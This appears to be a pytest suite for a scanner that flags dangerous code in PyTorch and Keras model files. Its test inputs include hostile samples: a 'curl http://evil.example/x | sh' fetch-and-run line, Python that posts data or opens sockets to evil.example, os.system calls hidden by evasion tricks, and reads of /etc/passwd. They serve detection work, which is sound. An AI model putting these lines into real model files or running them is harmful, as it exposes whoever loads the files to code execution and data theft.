"""TorchScript, packages of torch, scripts and libraries in model files: judged by what they call."""

from __future__ import annotations

import io
import json
import pickle

import pytest

from tests.cases import each
from tests.engines.modelfiles.graphs.assembling import alarms, everything, scanned
from veritensor_ray.core import bounds
from veritensor_ray.core.segments import Gap
from veritensor_ray.engines.base import Hit
from veritensor_ray.engines.modelfiles.graphs.python_code import calls_of, severe
from veritensor_ray.engines.modelfiles.graphs.torch_operators import is_own, reaches_outside
from veritensor_ray.engines.modelfiles.graphs.torch_sources import scan_bytecode

CODE, FILES, CUSTOM = "graph-code", "graph-file-access", "graph-custom-operators"
SCRIPT = "class M(Module):\n  __parameters__ = []\n  def forward(self: __torch__.M,\n    x: Tensor) -> Tensor:\n    _0 = {}\n    return x\n"


@each(
    ("call", "expected"),
    [
        ("torch.from_file('/etc/passwd', False, 10)", {FILES}),
        ("torch.save(x, '/tmp/x')", {FILES}),
        ("ops.aten.from_file('/etc/passwd', None, 1)", {FILES}),
        ("torch.ops.aten.from_file('/etc/passwd')", {FILES}),
        ("ops.image.read_file('/etc/passwd')", {FILES}),
        ("ops.image.write_file('/tmp/x', x)", {FILES}),
        ("ops.torchaudio.sox_io_load_audio_file('/etc/passwd', 0, 1, None, None, None)", {FILES}),
        ("ops.prim.rpc_sync('worker', 'f')", {FILES}),
        ("torch.as_strided(x, [1000], [1], -4096)", {FILES}),
        ("torch.as_strided(x, [10], [1], 0)", set()),
        ("ops.evil.run(x)", {CUSTOM}),
        ("torch.ops.mylib.op(x)", {CUSTOM}),
        ("__torch__.torch.classes.evil.Runner(x)", {CUSTOM}),
        ("eval('1')", {CODE}),
        ("torch.add(x, torch.mul(x, 2), alpha=1)", set()),
        ("ops.quantized.linear_dynamic(x, self._packed_params, True)", set()),
        ("__torch__.torch.classes.quantized.LinearPackedParamsBase()", set()),
        ("annotate(List[int], [1])", set()),
        ("getattr(self, '0').forward(x)", set()),
        ("ops.torchvision.nms(x, x, 0.5)", set()),
    ],
)
def test_torchscript(call: str, expected: set[str]) -> None:
    assert alarms(SCRIPT.format(call).encode(), "model.pt", "m/code/__torch__.py") == expected
    assert alarms(SCRIPT.format(call).encode(), "model.zip", "m/code/__torch__/a/b.py") == expected


def test_a_script_of_standard_operators_is_inert() -> None:
    assert scanned(SCRIPT.format("torch.relu(torch.conv2d(x, x, None, [1, 1]))").encode(), "m.pt", "m/code/__torch__.py") == (
        "inert",
        set(),
    )
    assert scanned(SCRIPT.format("torch.not_yet_known(x)").encode(), "m.pt", "m/code/__torch__.py")[0] == "unknown"


SOURCES = [
    "import os\nos.system('id')",
    "from os import system as s\ns('id')",
    "import subprocess as sp\nsp.check_output(['id'])",
    "__import__('os').system('id')",
    "import importlib\nimportlib.import_module('subprocess').run('id')",
    "import os\ngetattr(os, 'system')('id')",
    "import os\nrun = os.popen\nrun('id')",
    "exec('x')",
    "__builtins__['eval']('x')",
    "import builtins\nbuiltins.exec('x')",
    "import urllib.request\nurllib.request.urlopen('http://evil.example')",
    "import socket\nsocket.create_connection(('evil.example', 1))",
    "import ctypes\nctypes.CDLL('./x.so')",
    "import pickle\npickle.loads(b'')",
    "import torch\ntorch.ops.load_library('x.so')",
    "map(exec, ['x'])",
    "import requests\nclass M:\n    def forward(self, x):\n        requests.post('http://evil.example', x)",
    "().__class__.__base__.__subclasses__()",
    "import os\nos.__dict__['system']('id')",
    "import os\nx = f" + "()" * 1_000 + "\nos.system('id')",
    "import os\nx = f" + "['a']" * 1_000 + "()\nos.system('id')",
]


@each("source", SOURCES)
@each(("path", "member"), [("m.pt", "m/code.py"), ("m.keras", "evil.py"), ("a.zip", "x/m.pt!/p/__init__.py")])
def test_python_source(source: str, path: str, member: str) -> None:
    assert alarms(source.encode(), path, member) == {CODE}


@pytest.mark.parametrize(
    "source",
    [
        "import torch.nn as nn\nclass M(nn.Module):\n    def forward(self, x):\n        return nn.functional.relu(x)",
        "import os, sys, json\nHERE = os.path.dirname(__file__)\nprint(sys.version, json.dumps({}))",
        "def f(model):\n    model.eval()\n    return model.compile()",
    ],
)
def test_python_source_without_such_calls(source: str) -> None:
    assert scanned(source.encode(), "m.pt", "m/model.py") == ("unknown", {f"{CODE} low"})
    assert scanned(source.encode(), "src.zip", "m/model.py") == ("", set())


@pytest.mark.parametrize(
    ("data", "path", "member", "expected"),
    [
        (b"#!/bin/sh\ncurl http://evil.example/x | sh\n", "m.keras", "setup.sh", {CODE}),
        (b"#!/bin/sh\necho hello\n", "m.keras", "setup.sh", {CODE}),
        (b"\x7fELF\x02\x01\x01" + bytes(64), "m.keras", "lib.so", {CODE}),
        (b"\x7fELF\x02\x01\x01" + bytes(64), "m.pt", "m/data/0", {CODE}),
        (b"MZ" + bytes(64), "m.pt2", "m/evil.dll", {CODE}),
        (b"#!/bin/sh\ncurl http://evil.example/x | sh\n", "scripts.zip", "setup.sh", set()),
    ],
)
def test_scripts_and_libraries(data: bytes, path: str, member: str, expected: set[str]) -> None:
    assert alarms(data, path, member) == expected


@pytest.mark.parametrize(("length", "severity"), [(200, "high"), (400, "medium")])
def test_a_command_of_a_script_has_an_end(length: int, severity: str) -> None:
    script = b"#!/bin/sh\ncurl " + b"x" * length + b" | sh\n"
    assert scanned(script, "m.keras", "setup.sh")[1] == {f"{CODE} {severity}"}


def test_the_place_of_a_view_is_its_line() -> None:
    data = "# \u00e4\n\nx = torch.as_strided(x, [10], [1], -4096)\n".encode()
    hits = [one for one in everything(data, "m.pt", "m/code/__torch__.py") if isinstance(one, Hit)]
    assert [data[one.start : one.end] for one in hits] == [b"x = torch.as_strided(x, [10], [1], -4096)"]


def test_ahead_of_time_compiled_code_is_unknown() -> None:
    assert scanned(b"\x7fELF\x02\x01\x01" + bytes(64), "m.pt2", "m/data/aotinductor/model/x.so") == ("unknown", {f"{CODE} medium"})


def test_every_operator_of_torch_is_judged() -> None:
    assert all(reaches_outside(name) for name in ("aten::from_file", "from_file", "save", "image::write_file", "prim::rpc_async"))
    assert not any(reaches_outside(name) for name in ("aten::add", "conv2d", "quantized::linear", "torchvision::nms", "saved"))
    assert is_own("aten::add")
    assert not is_own("evil::add")


def test_source_that_does_not_parse_is_no_proof() -> None:
    assert scanned(b"class M(:\n  torch.from_file('x')\n", "m.pt", "m/code/__torch__.py")[0] == "dangerous"
    assert scanned(b"def (", "m.pt", "m/x.py")[0] == "unknown"
    assert calls_of("(" * 5000 + ")" * 5000).problem
    assert severe("os.system")


def test_what_torch_writes_is_inert() -> None:
    import torch

    class Block(torch.nn.Module):
        def __init__(self) -> None:
            super().__init__()
            self.layer = torch.nn.Sequential(torch.nn.Linear(3, 3), torch.nn.ReLU(), torch.nn.LayerNorm(3))

        def forward(self, x: torch.Tensor) -> torch.Tensor:
            return self.layer(x) if x.sum() > 0 else torch.zeros_like(x)

    import zipfile

    out = io.BytesIO()
    torch.jit.save(torch.jit.script(Block()), out)
    with zipfile.ZipFile(out) as archive:
        sources = [name for name in archive.namelist() if name.endswith(".py")]
        assert sources
        assert {scanned(archive.read(name), "m.pt", name)[0] for name in sources} == {"inert"}


def exported(target: str) -> bytes:
    node = {"target": target, "inputs": [{"name": "x", "arg": {"as_tensor": {"name": "x"}}}], "outputs": [], "metadata": {}}
    return json.dumps({"graph_module": {"graph": {"nodes": [node]}}, "opset_version": {"aten": 10}}).encode()


@pytest.mark.parametrize(
    ("target", "expected"),
    [
        ("torch.ops.aten.conv2d.default", set()),
        ("_operator.mul", set()),
        ("math.trunc", set()),
        ("torch.ops.higher_order.cond", set()),
        ("torch.ops.aten.from_file.default", {FILES}),
        ("torch.ops.image.read_file.default", {FILES}),
        ("torch.ops.evil.run.default", {CUSTOM}),
        ("torch.serialization.os.system", {CODE}),
        ("torch.hub.load", {CODE}),
        ("torch.utils.cpp_extension.subprocess.run", {CODE}),
        ("torch.__builtins__", {CODE}),
        ("os.system", {CODE}),
    ],
)
def test_exported_programs(target: str, expected: set[str]) -> None:
    for member in ("m/models/model.json", "serialized_exported_program.json"):
        assert alarms(exported(target), "m.pt2", member) - {"config-target"} == expected
        assert (scanned(exported(target), "m.pt2", member)[0] == "inert") is (not expected)
        padded = exported(target).replace(b"{", b"{" + b" " * (1 << 20), 1)
        assert alarms(padded, "m.pt2", member) - {"config-target"} == expected


@pytest.mark.parametrize(
    ("operators", "expected"),
    [
        (["aten::relu", "aten::conv2d"], set()),
        (["aten::relu", "aten::from_file"], {FILES}),
        (["evil::run"], {CUSTOM}),
        (["image::read_file"], {FILES}),
        ([f"evil::run{number}" for number in range(1_001)] + ["aten::from_file"], {CUSTOM, FILES}),
    ],
)
def test_bytecode_of_mobile_models(operators: list[str], expected: set[str]) -> None:
    data = pickle.dumps((9, ("__torch__.M.forward", ("operators", tuple((name, "", 1) for name in operators)))), 2)
    assert alarms(data, "m.ptl", "m/bytecode.pkl") == expected


def test_bytecode_beyond_the_limit_is_no_proof(monkeypatch: pytest.MonkeyPatch) -> None:
    data = pickle.dumps(("operators", ("aten::relu", "aten::relu_", "evil::run")), 2)
    monkeypatch.setattr(bounds, "HELD", len(data) - 20)
    assert [one.bound for one in scan_bytecode(io.BytesIO(data)) if isinstance(one, Gap)] == ["held_bytes"]
